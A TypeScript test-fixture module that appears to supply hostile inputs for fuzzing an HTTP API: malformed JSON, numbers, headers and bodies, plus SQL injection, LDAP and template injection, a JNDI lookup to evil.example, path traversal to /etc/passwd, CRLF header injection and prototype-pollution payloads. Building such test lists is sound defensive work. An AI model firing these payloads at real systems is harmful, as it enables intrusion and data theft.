/** JSON that JSON.stringify would not write. */
export class RawJson {
  constructor(readonly text: string) {}
}

const UNKNOWN = '01981f6e-3c00-7000-8000-5f2b6c1d9e42';
const cursor = (key: string) => Buffer.from(key).toString('base64url');

/** Each is refused or misread by some parser, database, locale, template or shell. */
const TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  'half \ud83d here',
  '\udc00',
  '\u200b',
  '\u3164',
  '\u202egnp.exe',
  '\ufeff',
  'e\u0301'.repeat(300),
  '🎫'.repeat(100),
  'a'.repeat(5_000),
  'a'.repeat(70_000),
  '\r\nSet-Cookie: a=b',
  "' OR 1=1 --",
  "'; DROP TABLE app_user; --",
  '\\',
  '%',
  '_%\\',
  '*)(uid=*))(|(uid=*',
  '%s%n%x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: such was a famous one
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'NaN',
  '-0',
  '1e400',
  '0x10',
  '+1',
  '1_000',
  '١',
  '9223372036854775808',
  'null',
  'true',
  'infinity',
  '-infinity',
  '+infinity',
  '2026-02-30',
  '2026-02-30T00:00:00Z',
  '2026-12-31T23:59:60Z',
  '2026-11-30T24:00:00Z',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '0001-01-01',
  '0001-01-01T00:00:00Z',
  '1000-01-01T00:00:00+23:59',
  '9999-12-31',
  '9999-12-31T23:59:59Z',
  '2199-12-31T23:59:59.999999999Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'c232ab00-9414-11ec-b3c8-9f68deced846',
  UNKNOWN,
  UNKNOWN.toUpperCase(),
  `{${UNKNOWN}}`,
  `urn:uuid:${UNKNOWN}`,
  `${UNKNOWN}\n`,
  'info@почта.рф',
  'a@b.org,c@d.org',
  'javascript:alert(1)',
  'http://[::1]:99999/',
  'https://exa\tmple.org/\0',
  'file:///etc/passwd',
  'NET',
  'EUR',
  cursor('["a\\u0000b","01981f6e-3c00-7000-8000-5f2b6c1d9e42"]'),
  cursor('["\\ud83d","01981f6e-3c00-7000-8000-5f2b6c1d9e42"]'),
  cursor('["title","\\u0000","01981f6e-3c00-7000-8000-5f2b6c1d9e42"]'),
  cursor('["startsAt","1000-01-01T00:00:00.000000Z","01981f6e-3c00-7000-8000-5f2b6c1d9e42"]'),
  cursor('["price",9007199254740991,"01981f6e-3c00-7000-8000-5f2b6c1d9e42"]'),
  cursor('["999999999999999999"]'),
  cursor('["9999999999999999999"]'),
  cursor('["00000000-0000-0000-0000-000000000000"]'),
  cursor('[1e400]'),
  cursor('[]'),
  cursor('null'),
];

const NUMBERS = [
  -1,
  0,
  1,
  1.5,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 - 1,
  2 ** 53,
  1e12,
  1e12 + 1,
  1e308,
  5e-324,
];

const STRUCTURES: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  [null],
  ['x', 'x'],
  [1, 1],
  [{}],
  { $gt: '' },
  { length: 1 },
  { toString: 1 },
  { 'a\0b': 1 },
  { '\ud800': 1 },
  Array.from({ length: 5_000 }, (_, n) => n),
  Array.from({ length: 2_000 }, () => UNKNOWN),
  new RawJson('-0'),
  new RawJson('1e400'),
  new RawJson('-1e400'),
  new RawJson('1e-400'),
  new RawJson('9007199254740993'),
  new RawJson('9223372036854775808'),
  new RawJson(`1${'0'.repeat(400)}`),
  new RawJson('NaN'),
  new RawJson('{"__proto__":{"role":"admin"}}'),
  new RawJson('{"constructor":{"prototype":{"role":"admin"}}}'),
  new RawJson('{"a":1,"a":2}'),
  new RawJson('"\\ud83d"'),
  new RawJson(`${'['.repeat(31)}${']'.repeat(31)}`),
  new RawJson(`${'['.repeat(40)}${']'.repeat(40)}`),
  new RawJson(`${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`),
];

/** For any place of a body. */
export const HOSTILE_JSON: readonly unknown[] = [...TEXTS, ...NUMBERS, ...STRUCTURES];

/** For path and query, as they are written in an address. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  ...TEXTS.filter((text) => text.length < 6_000).map(percentEncoded),
  ...NUMBERS.map(String),
  '%',
  '%zz',
  '%F0%9F%98',
  '%C0%80',
  '%2e%2e%2f%2e%2e%2f',
  '..',
  ';a=b',
  'a'.repeat(7_000),
  'a'.repeat(9_000),
];

const LONG = 'x'.repeat(6_000);
const ANY_HEADER = ['', ' ', ',', '"', '\xe9\xff', '\xed\xa0\x80', "'; --", '*', LONG];
/** By header: what it may hold in HTTP and nowhere else. */
export const HOSTILE_HEADERS: Readonly<Record<string, readonly string[]>> = {
  authorization: [...ANY_HEADER, 'Bearer', 'Bearer x', 'Bearer a.b.c', 'Basic YTpi', `Bearer ${LONG}`],
  'if-match': [
    ...ANY_HEADER,
    'W/"v1"',
    'v1',
    '"v0"',
    '"v-1"',
    '"v1e3"',
    '"v2147483648"',
    `"v${'9'.repeat(20)}"`,
    '"v1", "v2"',
  ],
  'idempotency-key': [...ANY_HEADER, 'a'.repeat(200), 'a'.repeat(201), 'the same'],
  'x-correlation-id': [...ANY_HEADER, 'a:b.c-d', 'a'.repeat(65)],
  'accept-language': [...ANY_HEADER, 'de;q=NaN', 'de;q=1e400', ';;;', 'de-', '-', '*;q=2'],
  accept: [...ANY_HEADER, 'application/octet-stream', 'text/csv', 'application/xml', '*/*;q='],
  'accept-encoding': ['', ' ', ',', '"', '\xe9\xff', LONG, '*;q=0', 'br;q=x', 'zstd'],
  'content-type': [
    ...ANY_HEADER,
    'text/plain',
    'application/xml',
    'multipart/form-data',
    'application/x-www-form-urlencoded',
    'application/json; charset=utf-16',
    'application/json; charset="',
    'application/merge-patch+json',
    'application/octet-stream',
  ],
  'content-encoding': [...ANY_HEADER, 'gzip', 'identity', 'br'],
  'if-none-match': [...ANY_HEADER, 'W/', '"'.repeat(100)],
  'if-modified-since': [...ANY_HEADER, 'Mon, 30 Feb 2026 00:00:00 GMT'],
  range: [...ANY_HEADER, 'bytes=0-', 'bytes=-1', 'bytes=9-1', 'bytes=99999999999999999999-'],
  traceparent: [...ANY_HEADER, `00-${'0'.repeat(32)}-${'0'.repeat(16)}-00`],
  'x-forwarded-for': [...ANY_HEADER, '::', '999.1.1.1', '1.1.1.1, 2.2.2.2'],
  'user-agent': ANY_HEADER,
  cookie: ANY_HEADER,
  origin: [...ANY_HEADER, 'null', 'http://evil.example'],
  'stripe-signature': [...ANY_HEADER, 't=1', 't=x,v1=00', `t=${'9'.repeat(30)},v1=${'0'.repeat(64)}`],
};

/** A whole body, as bytes, that is not quite the JSON that it should be. */
export const HOSTILE_BODIES: readonly ((json: string) => string | Buffer)[] = [
  () => '',
  (json) => json.slice(0, -1),
  (json) => `${json}${json}`,
  (json) => `\ufeff${json}`,
  (json) => json.replace('"', "'"),
  () =>
    Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xff, 0xfe, 0xed, 0xa0, 0x80]), Buffer.from('"}')]),
  (json) => Buffer.from(json, 'utf16le'),
  // Every member twice, the second time as another kind.
  (json) => json.replace(/"(\w+)":/g, '"$1":[],"$1":'),
  (json) => `${'['.repeat(100_000)}${json}`,
  (json) => json.padEnd(300 * 1024),
  () => 'null',
  () => '[]',
  () => '"text"',
];

/** Escapes also what is no Unicode, which encodeURIComponent refuses to. */
export function percentEncoded(text: string): string {
  return [...text]
    .map((character) => {
      const code = character.codePointAt(0)!;
      if (character.isWellFormed()) return encodeURIComponent(character);
      return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((byte) => `%${byte.toString(16)}`)
        .join('');
    })
    .join('');
}
